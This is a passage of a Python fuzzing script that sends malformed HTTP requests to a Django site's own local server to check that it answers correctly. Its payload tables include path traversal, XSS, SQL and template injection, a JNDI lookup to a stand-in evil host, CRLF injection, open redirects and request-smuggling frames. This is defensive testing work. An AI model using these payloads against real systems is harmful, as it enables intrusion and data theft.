"""Send the production server what no browser sends, and see that it always answers as it should.

    make fuzz                             # 12,000 requests from a new seed
    make fuzz FUZZ='--seed 7'             # the same requests again
    make fuzz FUZZ='--seed 7 --only 4711' # one of them again

Request n follows from the seed and n alone. Every request is an entry of a table below, sent to one of the site's
addresses; every second one is then changed at random. Plain sockets, because odd bytes must go out as they are.
"""

import argparse
import gzip
import os
import re
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from random import Random

LIMIT = 10  # seconds in which an answer must be complete
QUIET = 0.3  # seconds of silence after which no further answer to a broken request is awaited
CONNECTIONS = 4
WARM_UP = 2000  # requests after which the worker has imported and cached what it needs
# What the worker may grow by after the warm-up. Measured: 5 to 15 MB, most of it the allocator's holes after 5 MB
# bodies. A leak of 3 kB a request, a tenth of a page, would show.
MOST_GROWTH = 30  # MB
MOST_FAILURES = 20  # then the run stops

HTML = "text/html; charset=utf-8"
# Every kind of address, with the type that its page is declared as.
PAGES = {
    b"/": HTML,
    b"/?standing=registered": HTML,
    b"/4xx/": HTML,
    b"/404/": HTML,
    b"/404/?q=not+found": HTML,
    b"/433/": HTML,
    b"/search/": HTML,
    b"/search/?q=gateway": HTML,
    b"/search/suggest/?q=not": "application/json",
    b"/search/completions/?q=not": "application/x-suggestions+json",
    b"/vs/": HTML,
    b"/vs/401-403/": HTML,
    b"/nope/": HTML,
    b"/opensearch.xml": "application/opensearchdescription+xml; charset=utf-8",
    b"/admin/login/": HTML,
    b"/admin/": HTML,
    b"/admin/codes/statuscode/": HTML,
    b"/admin/codes/statuscode/404/change/": HTML,
    b"/admin/autocomplete/": HTML,
    b"/admin/logout/": HTML,
}
TYPES = (
    PAGES
    | {b"/en" + path: kind for path, kind in PAGES.items()}
    | {
        b"/sitemap.xml": "application/xml",
        b"/robots.txt": "text/plain; charset=utf-8",
        b"/favicon.ico": HTML,
        b"/healthz": "application/json",
        b"/static/favicon.svg": "image/svg+xml",
        b"/static/css/site.css": 'text/css; charset="utf-8"',
        b"/static/js/site.js": 'text/javascript; charset="utf-8"',
        b"/static/preview.png": "image/png",
        b"/static/nope.css": HTML,
    }
)
ADDRESSES = list(TYPES)
READABLE = [address for address in ADDRESSES if b"/admin/" not in address]

HOST = b"127.0.0.1"  # always allowed, so that the requests do not depend on the port
EVIL = b"evil.example"
KOREAN = "상태".encode()
TOKEN = b"a" * 32  # of the right form, so that Django goes on to read the form itself


def odd(*texts):
    return [text.encode("latin-1") if isinstance(text, str) else text for text in texts]


# The tables are read by eye.
# fmt: off

# What is put behind a path, and what in front of it.
TAILS = odd(
    *("%zz", "%", "%F", "%FF", "%C3%28", "%ED%A0%80", "%F4%90%80%80", "%00", "%2500", "%u0041", "%0a", "%0d%0aX:%20y"),
    *("\0", "\xff", "\x80", "\xed\xa0\x80", "\x7f", "\x01", "\t", " ", " x", "<script>", '"', "'", "{}|^`", "#x", ";a=b"),
    *(KOREAN, "%EC%83%81%ED%83%9C/", "٤٠٤/".encode(), "%D9%A4%D9%A0%D9%A4/", "４０４/".encode(), "%EF%BC%94/"),
    *("/", "//", "/..", "/../", "../../etc/passwd", "%2e%2e/", "%2e%2e%2f%2e%2e%2f", "..;/", "./", "/.", "\\", "%5c.."),
    *("a" * 3000, "a" * 9000, "/" * 2000, "a/" * 3000, "%41" * 3000, "%FF" * 3000, "a" * 70_000, "a" * 500_000),
    *("404", "999999999999999999999/", "-1/", "0404/", "404.0/", "1e3/", "index.html", ".git/config", "~", "*"),
)
FRONTS = odd(
    *("/", "//" + EVIL.decode(), "/" + EVIL.decode(), "/en//" + EVIL.decode(), "/en/%2f" + EVIL.decode(), "/en/en"),
    *("\\\\" + EVIL.decode(), "/\\" + EVIL.decode(), "/%5c" + EVIL.decode(), "/%2f%2f" + EVIL.decode(), "/.", "/..", "/%2e%2e"),
    *("/ko", "/EN", "/de", "/static", "/static/..", "/static/%2e%2e", "/static//", "/admin", "/admin//", "", "*", " ", "x"),
    *("http://127.0.0.1", "http://" + EVIL.decode(), "https://" + EVIL.decode(), "http:", "http://", "ftp://x", "//[::1", "http://[::1"),
    *("http://a:b@127.0.0.1", "http://127.0.0.1:99999", "HTTP://127.0.0.1", "javascript:", "127.0.0.1:80"),
)
QUERIES = odd(
    *("?", "??", "?&&&", "?=&=&", "?q", "?q=", "?q=%zz", "?q=%", "?q=%FF", "?q=%ED%A0%80", "?q=%00", "?q=a%00b", "?%00=1", "?q=\0"),
    *("?q=\xff", b"?q=" + KOREAN, "?q=%D9%A4%D9%A0%D9%A4", "?q=%EF%BC%94%EF%BC%90%EF%BC%94", "?q=404", "?q=404&all", "?q=999", "?q=433"),
    *("?q=4xx", "?q=401+403", "?q=%2B404", "?q=4_0_4", "?q=-1", "?q=" + "9" * 1000, "?q=1&q=2&q=3", "?q[]=1", "?q=1;q=2", "?Q=404"),
    *("?q=" + "a" * 1001, "?q=" + "a" * 11_900, "?q=" + "a" * 13_000, "?q=" + "%EA%B0%80" * 1000, "?q=" + "%E3%85%81" * 900),
    *("?q=" + "e%CC%81" * 900, "?q=" + "%CC%81" * 900, "?q=" + "." * 1000, "?q=" + "a+" * 900, "?q=" + "%F0%9F%98%80" * 500),
    *("?q=" + "404+" * 300, "?q=" + "(a%2B)" * 200, "?q=" + "%E2%80%8F" * 900, "?q=%E1%84%80" * 3, "?q=" + "%25" * 900),
    *("?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "?q=%0d%0aSet-Cookie:%20a=b", "?q=http://evil.example/", "?q=../../etc/passwd"),
    *("?q=%7B%7B7*7%7D%7D", "?q='+OR+1=1--", "?q=$%7Bjndi:ldap://evil.example/a%7D", "?q=%5Cu0000", "?q=%C0%80", "?q=%F8%88%80%80%80"),
    *("?standing=nope", "?standing=", "?standing=registered&standing=nope", "?fact=retry&issuer=nginx", "?issuer=%00", "?issuer=" + "x" * 5000),
    *("?p=0", "?p=2", "?p=-1", "?p=x", "?p=" + "9" * 400, "?p=%D9%A2", "?section=codes", "?e=1", "?all=&q=not+found"),
    *("?next=//evil.example/", "?next=/%5Cevil.example/", "?next=https:evil.example", "?next=javascript:alert(1)", "?next=%00", "?next=" + "/" * 3000),
    *("?" + "a=1&" * 900, "?" + "a=1&" * 1001, "?" + "a&" * 3000, "?" + "&" * 5000, "?" + "a" * 70_000, "#a?b", "?a#b"),
    *("?app_label=codes&model_name=statuscode&field_name=category&term=%00", "?_popup=1&_to_field=id", "?number__in=9223372036854775808"),
)
METHODS = odd(
    *"POST PUT PATCH DELETE TRACE TRACK OPTIONS CONNECT PRI FOO PROPFIND PURGE get Get head post gET HEAD M-SEARCH A".split(),
    *("A" * 1000, "G@T", "G\xe9T", "", "GET\0", "\x16\x03\x01\x02\0\x01", "GET ", " GET", "'OR'", "{}"),
)
VERSIONS = odd(
    *"HTTP/1.0 HTTP/1.0 HTTP/0.9 HTTP/1.2 HTTP/2.0 HTTP/2 HTTP/3 HTTP/1.10 HTTP/11 HTTP/9.9 HTTP/1. HTTP/.1 http/1.1 HTTX/1.1".split(),
    *("", "HTTP/1.1 ", "HTTP/1.1 x", "HTTP/1.1\0", "HTTP/ 1.1", "H" * 5000, "HTTP/1,1", "HTTP/-1.1"),
)
# Everything behind the first line, where the Host stands; None sends no Host at all.
HOSTS = [
    None,
    *odd(
        *("", " ", "a b", "evil.example", "evil.example:80", "127.0.0.1:99999", "127.0.0.1:0", "127.0.0.1:abc", "127.0.0.1:", "127.0.0.1."),
        *("localhost", "LOCALHOST", "[::1]", "[::1]:80", "[::1", "::1", "[", "[::1]evil", "user@127.0.0.1", "127.0.0.1@evil.example", "127.1"),
        *("127.0.0.1, evil.example", "127.0.0.1\0", "\0", "\xff", "\xed\xa0\x80", KOREAN, "xn--9i1b4y", "http://127.0.0.1", "127.0.0.1/404/"),
        *("127.0.0.1?x", "127.0.0.1#", "127.0.0.1\\", "%31", "*", ".", "..", "-", "a" * 300, "a" * 60_000, "a." * 2000, "127.0.0.1\t"),
        *("127.0.0.1\r\nHost: 127.0.0.1", "127.0.0.1\r\nHost: evil.example", "evil.example\r\nHost: 127.0.0.1", "127.0.0.1\r\nhost : x"),
    ),
]

CODINGS = odd(
    *("gzip", "br", "gzip, br", "gzip, deflate, br, zstd", "br;q=1.0, gzip;q=0.5", "gzip;q=0", "gzip;q=0, br;q=0", "br;q=0, gzip", "*"),
    *("*;q=0", "identity", "identity;q=0", "identity;q=0, *;q=0", "identity;q=1, *;q=0", "", ",", ";;;", ";q=1", "gzip;q=abc", "gzip;q=2"),
    *("gzip;q=-1", "gzip;q=0.000", "gzip;q=0.0001", "gzip;q=", "gzip;q", "gzip; q = 0", "GZIP", "GZip;Q=0", "x-gzip", "gzipx", "xgzip"),
    *("gzip br", "gzip;br", "gzip;level=9", "gzip\t,\tbr", "\xff", KOREAN, '"gzip"', "gzip;q=nan", "gzip;q=inf", "gzip;q=1e9", "gzip;q=1.0000"),
    *("gzip," * 1000, "br;q=0.1," * 1000, "a" * 20_000, "gzip\r\nAccept-Encoding: br", "gzip;q=0\r\nAccept-Encoding: gzip", "aws-chunked"),
)
# <etag>, <opaque> and <date> stand for what the site itself sent for the address.
MATCHES = odd(
    *("*", '"*"', "**", "<etag>", "W/<opaque>", "<opaque>", "w/<opaque>", '"a", <etag>', '<etag>, "a"', "<etag>,<etag>", "<etag> ", "<etag>x"),
    *('"a"', 'W/"a"', '""', 'W/""', '"', 'W/"', "W/", "abc", "'a'", ",", ",,,", "", '"a" "b"', '"a";"b"', '"\\""', '"a\tb"', '"\xff"'),
    *('"' + "a" * 9000 + '"', '"a", ' * 1000, '"a' * 1000, "*, *", '*, "a"', "<etag>\r\nIf-None-Match: *", KOREAN, '"%00"', '"<script>"', '"a,b"'),
)
DATES = odd(
    *("<date>", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 01 Jan 2100 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "Sunday, 06-Nov-94 08:49:37 GMT"),
    *("Sun Nov  6 08:49:37 1994", "Sun, 06 Nov 1994 08:49:37 +0900", "<date>; length=5", "Thu, 32 Foo 2020 25:61:61 GMT", "Thu, 01 Jan 99999 00:00:00 GMT"),
    *("Thu, 01 Jan 0000 00:00:00 GMT", "Mon, 29 Feb 2023 00:00:00 GMT", "0", "-1", "now", "", ",", ":::", "\xff", "1 1 1 1:1:1", "Thu, 01 Jan", "9" * 5000),
    *("Thu, 01 Jan 1970 00:00:60 GMT", "01 Jan", "00:00", "Thu,", "Jan Jan Jan Jan Jan", "Thu, 01 Jan 1970 00:00:00 " + "+9" * 500, "2020-01-01T00:00:00Z"),
)
RANGES = odd(
    *("bytes=0-0", "bytes=0-", "bytes=-1", "bytes=-0", "bytes=5-2", "bytes=1-99999999", "bytes=999999999-", "bytes=0-0,2-3", "bytes=-", "bytes="),
    *("bytes=a-b", "bytes", "items=0-1", "bytes=--5", "bytes=0-18446744073709551616", "bytes=-18446744073709551616", "bytes 0-1", "bytes=0x1-2"),
    *("bytes=" + "9" * 5000 + "-", "bytes=" + "0-1," * 2000, "Bytes=0-1", "bytes = 0 - 1", "bytes=１-２".encode(), "bytes=\xff", "bytes=1_0-2_0", ""),
)
ACCEPTS = odd(
    *("*/*", "text/html", "application/json", "text/*;q=0", "*/*;q=0", "", ",", ";", "/", "a/b/c", "text/html;q=nan", "\xff", KOREAN, "image/webp"),
    *("text/html," * 2000, "a" * 50_000, "text/html;" * 3000, 'text/html;a="' + "\\" * 5000, "*/*;q=0.1;q=0.2;q=x"),
)
LANGUAGES = odd(
    *("ko", "en", "en-US,en;q=0.9,ko;q=0.8", "*", "zz", "-", "", ",", "en;q=nan", "en;q=9", "\xff", KOREAN, "a-" * 5000, "en," * 10_000, "ko_KR", "../ko"),
)
COOKIES = odd(
    *("a=b", "", ";", "=", ";;;=;=", "a", "sessionid=", "sessionid=x", "sessionid=" + "a" * 32, "sessionid=" + "z" * 5000, "sessionid=%00", "sessionid=\xff"),
    *("csrftoken=", "csrftoken=x", "csrftoken=" + "a" * 32, "csrftoken=" + "a" * 64, "csrftoken=\xff", "csrftoken=%00" + "a" * 29, "django_language=en"),
    *("django_language=../../x", "messages=x", 'messages="[[\\"__json_message\\"]]:x"', "a=" + "b" * 9000, "a=b; " * 500, 'a="b', "a=\x01", "a=\\073", KOREAN),
    *("__Host-sessionid=x", "sessionid=a\r\nCookie: sessionid=b", "$Version=1; a=b", "sessionid=" + "a" * 60_000),
)
PROXIED = odd(
    *("https", "http", "evil.example", "127.0.0.1", "1.2.3.4, 5.6.7.8", "a" * 9000, "", "\xff", "%00", "::1", "[::1]:80", "for=1.2.3.4;proto=https"),
    *("443", "-1", "/404/", "//evil.example/", "DELETE", "unknown", "127.0.0.1, " * 500, "<script>", "a\tb", KOREAN, "\x01"),
)
IDENTIFIERS = odd(
    *("1", "", "a" * 200, "a" * 9000, "\xff", "\xed\xa0\x80", KOREAN, "%0d%0aX: y", "\t", "a b", "<script>", "{}", "${x}", "\x7f", "\x1b[31m", "\0"),
    *("a\nb", "a\rb", "\\n", "../x", "'", '"', "1\r\nX-Request-ID: 2", "0" * 36, "00000000-0000-0000-0000-000000000000", "%s%n", "{0}"),
)
# Python knows charsets that do not decode text, and some that fail in their own ways.
CHARSETS = odd(
    *("utf-8", "utf-16", "utf-7", "euc-kr", "hex", "zip", "base64", "rot13", "idna", "punycode", "undefined", "unicode_escape", "raw_unicode_escape"),
    *("uu", "quopri", "bz2", "mbcs", "oem", "string_escape", "nope", "", '"', "utf-8-sig", "\xff", "a" * 5000, "../x", "utf_32", "iso2022_kr", "hz"),
)
MEDIA = odd(
    *("", ";", "/", "text", "application/json", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "x" * 5000),
    *("application/x-www-form-urlencoded; " + "a=b; " * 1000, "text/plain; charset*=utf-8''hex", "text/plain; charset*=hex'x'%FF", "\xff", "a" * 9000),
)
HEADERS = (
    [b"Accept-Encoding: " + value for value in CODINGS]
    + [b"Accept: " + value for value in ACCEPTS]
    + [b"Accept-Language: " + value for value in LANGUAGES]
    + [b"Range: " + value for value in RANGES]
    + [b"Cookie: " + value for value in COOKIES]
    + [b"X-Request-ID: " + value for value in IDENTIFIERS]
    + [b"Content-Type: text/plain; charset=" + value for value in CHARSETS]
    + [b"Content-Type: " + value for value in MEDIA]
    + [
        name + b": " + value
        for name in odd(
            *"X-Forwarded-For X-Forwarded-Proto X-Forwarded-Host X-Forwarded-Port Forwarded X-Real-IP X_Forwarded_For".split(),
            *"X-Original-URL X-Rewrite-URL X-HTTP-Method-Override X-Requested-With Script-Name Path-Info Remote-User".split(),
        )
        for value in PROXIED
    ]
    + [name + b": x" for name in odd("", " ", "a b", "a@b", "a(b", "\xff", KOREAN, "a" * 9000, "Proxy", "content_length", "Content_Type", "__proto__")]
    + odd(
        *("Connection: close", "Connection: keep-alive, close", "Connection: host", "Connection: \xff", "Keep-Alive: timeout=-1", "TE: trailers"),
        *("Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Upgrade: x"),
        *("Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "Expect: 100-continue", "Expect: x"),
        *("Authorization: Basic eA==", "Authorization: \xff", "Referer: //evil.example", "Origin: null", "Origin: http://evil.example", "Origin: \xff"),
        *("User-Agent: " + "a" * 9000, "User-Agent: \xff", "Max-Forwards: 0", "Cache-Control: only-if-cached", "Pragma: \xff", "Date: x", "Early-Data: 1"),
        *("A: " + "b" * 20_000, "A: " + "b" * 500_000, "A: b\r\n" * 85 + "A: b", "A: b\r\n" * 200 + "A: b", "A:\r\n" * 2000 + "A:", "A: b\x01", "A: \x7f"),
        *("Sec-Fetch-Site: cross-site", "Access-Control-Request-Method: PUT\r\nOrigin: http://evil.example", "Trailer: Host", "Via: \xff", "A: \xa0"),
    )
)
CONDITIONS = [
    *(b"If-None-Match: " + value for value in MATCHES),
    *(b"If-Match: " + value for value in MATCHES),
    *(b"If-Modified-Since: " + value for value in DATES),
    *(b"If-Unmodified-Since: " + value for value in DATES),
    *(b"If-None-Match: " + value + b"\r\nIf-Modified-Since: <date>" for value in MATCHES[:20]),
    *(b"If-Range: " + value + b"\r\nRange: bytes=0-9" for value in MATCHES[:12] + DATES[:8]),
]
# Behind the first line: how long the body is, and by how many ways of counting.
FRAMES = odd(
    *("Content-Length: 5\r\n\r\nhello", "Content-Length: 0\r\n\r\n", "Content-Length: 00005\r\n\r\nhello", "Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello"),
    *("Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!", "Content-Length: 5, 5\r\n\r\nhello", "Content-Length: +5\r\n\r\nhello", "Content-Length: -1\r\n\r\n"),
    *("Content-Length: 0x5\r\n\r\nhello", "Content-Length: ５\r\n\r\nhello".encode(), "Content-Length: \r\n\r\n", "Content-Length: 5 5\r\n\r\nhello"),
    *("Content-Length: 99999999999999999999\r\n\r\n", "Content-Length: 18446744073709551615\r\n\r\n", "Content-Length: 9223372036854775807\r\n\r\nx"),
    *("Content-Length: 3\r\n\r\nhello", "Content-Length: 9\r\n\r\nhello", "Content-Length : 5\r\n\r\nhello", "Content-Length\r\n\r\n", " Content-Length: 5\r\n\r\nhello"),
    *("Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: Chunked\r\n\r\n0\r\n\r\n"),
    *("Transfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\nA: b\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n5\r\nhelloX\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n"),
    *("Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n", "Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n"),
    *("Transfer-Encoding: chunked\r\n\r\n" + "1\r\na\r\n" * 3000 + "0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n0" + ";a" * 9000 + "\r\n\r\n"),
    *("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /404/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\nGET /x"),
    *("Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", "Transfer-Encoding: identity\r\n\r\n", "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"),
    *("Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n"),
    *("Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n", "Transfer_Encoding: chunked\r\n\r\n0\r\n\r\n", "X: y\n\n", "X: y\r\r\n\r\n", "X: y\r\n folded\r\n\r\n", "X: y\r\n\tfolded\r\n\r\n"),
    *("X : y\r\n\r\n", "X\r\n\r\n", ": y\r\n\r\n", "X: y\r\nGET /404/ HTTP/1.1\r\n\r\n", "\r\n", "\n", "\r", "X: y\0\r\n\r\n", "X: \r\n\r\n\r\n", "Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"),
)
FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"
MULTIPART = b"Content-Type: multipart/form-data; boundary=x\r\n"
PART = b'--x\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n' + TOKEN + b"\r\n"
LOGIN = b"csrfmiddlewaretoken=" + TOKEN
# (headers, body) of a form.
FORMS = [
    *((FORM, body) for body in odd("", "a", "=", "&&&", "csrfmiddlewaretoken=", "csrfmiddlewaretoken=%00", "csrfmiddlewaretoken=\xff", "csrfmiddlewaretoken=" + "a" * 64)),
    (FORM, LOGIN),
    (FORM, LOGIN + b"&username=&password="),
    (FORM, LOGIN + b"&username=a%00b&password=c%00d"),
    (FORM, LOGIN + b"&username=%FF&password=%ED%A0%80"),
    (FORM, LOGIN + b"&username=" + b"a" * 5000 + b"&password=x"),
    (FORM, LOGIN + b"&username=nobody&password=" + b"x" * 5000),
    (FORM, LOGIN + b"&username=nobody&password=x&next=//evil.example/"),
    (FORM, LOGIN + b"&username=nobody&username=x&password=x&otp_token=%00&otp_device=x"),
    (FORM, LOGIN + b"&a=1" * 1001),
    (FORM, LOGIN + b"&a=" + b"x" * 3_000_000),
    (FORM, b"\0" * 1000),
    (FORM, b"\xff" * 5_000_000),
    *((b"Content-Type: application/x-www-form-urlencoded; charset=" + charset + b"\r\n", LOGIN + b"&username=%FF") for charset in CHARSETS),
    *((b"Content-Type: multipart/form-data; boundary=x; charset=" + charset + b"\r\n", PART + b"--x--\r\n") for charset in CHARSETS),
    *((b"Content-Type: " + value + b"\r\n", b"--x\r\n\r\n") for value in MEDIA),
    *(
        (MULTIPART, body)
        for body in odd(
            *("", "--x", "--x--", "--x\r\n", "x", "--x\r\n\r\n\r\n--x--", "--y--", "\r\n--x--\r\n", "--x" * 1000, "--x\r\nA: b\r\n" * 500),
            PART + b'--x\r\nContent-Disposition: form-data; name="username"; filename="a\0b"\r\n\r\nx\r\n--x--\r\n',
            PART + b'--x\r\nContent-Disposition: form-data; name="\xff"; filename*=hex\'\'%FF\r\n\r\nx\r\n--x--\r\n',
            PART + b"--x\r\nContent-Disposition: form-data; name*=utf-8''%00\r\nContent-Type: a/b; charset=hex\r\n\r\nx\r\n--x--\r\n",
            PART + b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n====\r\n--x--\r\n',
            PART + b'--x\r\nContent-Disposition: form-data; name="a"; filename="../../x"\r\n\r\n' + b"x" * 5_000_000 + b"\r\n--x--\r\n",
            PART + b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n' * 1200 + b"--x--\r\n",
            PART + b"--x\r\n" + b"A: b\r\n" * 3000 + b"\r\nx\r\n--x--\r\n",
        )
    ),
    (b"Content-Type: application/json\r\n", b'{"a": "\\ud800"}'),
    (b"", b"x" * 5000),
]
SCRAPS = odd(
    *("\0", "\xff", "\xed\xa0\x80", KOREAN, "%00", "%", "%FF", "\r\n", "\n", "\r", "\r\n\r\n", " ", "\t", ":", ";", ",", '"', "\x7f", "/", "//", "?", "&", "="),
    *("9" * 20, "-1", "A" * 1000, "HTTP/1.1", "Host: a\r\n", "Content-Length: 3\r\n", "Transfer-Encoding: chunked\r\n", "%c0%af", "\x80", "\\"),
)

# fmt: on


def message(target, *headers, method=b"GET", version=b"HTTP/1.1", host=HOST, body=b""):
    lines = [b" ".join((method, target, version)), *([] if host is None else [b"Host: " + host]), *headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


@dataclass
class Case:
    kind: str
    data: bytes
    abandoned: bool = False  # cut off somewhere and left alone


# Each makes a request from an entry of its table and one of the addresses.
def odd_path(entry, address, rng):
    path, mark, query = address.partition(b"?")
    return message(entry + address if entry in FRONTS else path + entry + mark + query)


def odd_query(entry, address, rng):
    return message(address.partition(b"?")[0] + entry, method=rng.choice([b"GET", b"GET", b"HEAD"]))


def odd_method(entry, address, rng):
    return message(address, method=entry)


def odd_version(entry, address, rng):
    if rng.random() < 0.1:
        return rng.choice(
            [b"GET " + address + b"\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\r\n\r\n" + message(address)]
        )
    return message(address, version=entry)


def odd_host(entry, address, rng):
    return message(address, host=entry)


def odd_header(entry, address, rng):
    others = rng.sample(HEADERS, rng.choice([0, 0, 1, 3]))
    return message(address, entry, *others, method=rng.choice([b"GET", b"GET", b"HEAD", b"POST"]))


def odd_condition(entry, address, rng):
    method = rng.choice([b"GET", b"GET", b"HEAD", b"POST"])
    return message(rng.choice(READABLE), entry, b"Accept-Encoding: " + rng.choice(CODINGS[:12]), method=method)


def odd_frame(entry, address, rng):
    return b"%s %s HTTP/1.1\r\nHost: %s\r\n%s" % (rng.choice([b"POST", b"GET", b"PUT"]), address, HOST, entry)


def odd_form(entry, address, rng):
    headers, body = entry
    target = rng.choice([b"/admin/login/", b"/en/admin/login/", b"/admin/login/?next=//evil.example/", address])
    length = b"Content-Length: %d" % len(body)
    cookie = b"Cookie: csrftoken=" + (TOKEN if rng.random() < 0.9 else rng.choice([b"", b"x", b"\xff"]))
    return message(target, headers.strip() or b"A: b", length, cookie, method=b"POST", body=body)


def odd_pipeline(entry, address, rng):
    """Two to six good requests at once."""
    return b"".join(
        message(rng.choice(ADDRESSES), method=rng.choice([b"GET", b"HEAD", b"OPTIONS"]))
        for _ in range(rng.randint(2, 6))
    )


def twins(entry, address, rng):
    """HEAD and GET of the same, which must agree."""
    address = rng.choice(READABLE)
    headers = [b"Accept-Encoding: " + entry] + ([rng.choice(CONDITIONS)] if rng.random() < 0.5 else [])
    return message(address, *headers, method=b"HEAD") + message(address, *headers)


def half(entry, address, rng):
    make, table = KINDS[rng.choice(["header", "frame", "form", "form", "pipeline"])]
    data = make(rng.choice(table), address, rng)
    return data[: rng.randrange(1, min(len(data), 20_000))]


KINDS = {
    "path": (odd_path, TAILS + FRONTS),
    "query": (odd_query, QUERIES),
    "method": (odd_method, METHODS),
    "version": (odd_version, VERSIONS),
    "host": (odd_host, HOSTS),
    "header": (odd_header, HEADERS),
    "condition": (odd_condition, CONDITIONS),
    "frame": (odd_frame, FRAMES),
    "form": (odd_form, FORMS),
    "pipeline": (odd_pipeline, [None]),
    "twins": (twins, CODINGS),
    "half": (half, [None]),
}
# What follows what; the long tables come more often.
TURNS = [*KINDS, "header", "header", "condition", "path", "query", "twins"]


def changed(data, rng):
    """The request with one to three random changes, near its beginning, where the meaning is."""
    head, rest = bytearray(data[:3000]), data[3000:]
    for _ in range(rng.randint(1, 3)):
        start = rng.randrange(len(head) + 1)
        end = min(len(head), start + rng.choice([1, 1, 2, 10, 100]))
        how = rng.randrange(6)
        if how == 0:
            head[start:start] = rng.choice(SCRAPS)
        elif how == 1:
            head[start:end] = rng.choice(SCRAPS)
        elif how == 2:
            del head[start:end]
        elif how == 3:
            head[start:start] = head[start:end] * rng.choice([1, 3, 50])
        elif how == 4:
            head[start:end] = rng.randbytes(end - start)
        else:
            lines = head.split(b"\r\n")
            rng.shuffle(lines)
            head = bytearray(b"\r\n".join(lines))
    return bytes(head) + rest


def case(seed, number, known):
    """Request `number` of the run; `known` holds the ETag and date that the site sent for an address."""
    rng = Random(f"{seed} {number}")
    kind = TURNS[number % len(TURNS)]
    make, table = KINDS[kind]
    # The seed decides where in its table a run begins, so that a short run is not always the same one.
    entry = table[(number // len(TURNS) + Random(f"{seed} {kind}").randrange(len(table))) % len(table)]
    data = make(entry, rng.choice(ADDRESSES), rng)
    if b"<" in data[:3000]:
        target = data.split(b" ", 2)[1] if data.count(b" ") > 1 else b""
        etag, date = known.get(target, (b'"a"', b"Thu, 01 Jan 2026 00:00:00 GMT"))
        data = data.replace(b"<etag>", etag).replace(b"<opaque>", etag.removeprefix(b"W/")).replace(b"<date>", date)
    if kind == "half":
        return Case(kind, data, abandoned=True)
    return Case("changed", changed(data, rng)) if rng.random() < 0.5 else Case(kind, data)


NAME = rb"[!#$%&'*+.^_`|~0-9A-Za-z-]+"
FIRST_LINE = re.compile(rb"(%s) (/[!$&'()*+,;=:@A-Za-z0-9._~/?%%-]*) HTTP/1\.[01]" % NAME)
FIELD = re.compile(rb"(%s):[ \t]*([\t -~\x80-\xff]*)" % NAME)
CHUNK = re.compile(rb"([0-9A-Fa-f]{1,8})\r\n")


@dataclass
class Asked:
    """One request as the server should read it."""

    method: bytes
    target: bytes = b""
    headers: dict = field(default_factory=dict)


def requests_in(data):
    """Return (the requests in `data`, whether all of it is good HTTP/1 that any server must answer).

    Strict on purpose: what is not good here may still be answered, but need not be.
    """
    found = []
    while data:
        asked, rest = _first_request(data)
        if asked is None:
            return [*found, Asked(data.lstrip(b"\r\n").partition(b" ")[0])], False
        found.append(asked)
        data = rest
    return found or [Asked(b"")], bool(found)


def _first_request(data):
    """Return (the request at the beginning, the rest), or (None, data) if it is not good."""
    head, end, rest = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    first = FIRST_LINE.fullmatch(lines[0])
    fields = [FIELD.fullmatch(line) for line in lines[1:]]
    # The server says 414 or 431 beyond 65,534 bytes of address, 100 headers or 400 kB.
    if not (end and first and all(fields)) or len(first[2]) > 60_000 or len(fields) > 90 or len(head) > 300_000:
        return None, data
    # CONNECT, PRI and Upgrade ask for something else than an answer. "head" is another method than HEAD, but Django
    # takes it for the same: the server, which knows better, then misses the body that was announced.
    if first[1] in (b"CONNECT", b"PRI") or (first[1] != b"HEAD" and first[1].upper() == b"HEAD"):
        return None, data
    headers = [(match[1].lower(), match[2].strip()) for match in fields]
    hosts, lengths, codings, upgrades = (
        [value for name, value in headers if name == wanted]
        for wanted in (b"host", b"content-length", b"transfer-encoding", b"upgrade")
    )
    if len(hosts) != 1 or not re.fullmatch(rb"[0-9A-Za-z.:\[\]-]+", hosts[0]) or upgrades:
        return None, data
    if codings:
        rest = None if lengths or codings != [b"chunked"] or lines[0].endswith(b"0") else _after_chunks(rest)
    elif lengths:
        good = len(lengths) == 1 and re.fullmatch(rb"[0-9]{1,9}", lengths[0]) and len(rest) >= int(lengths[0])
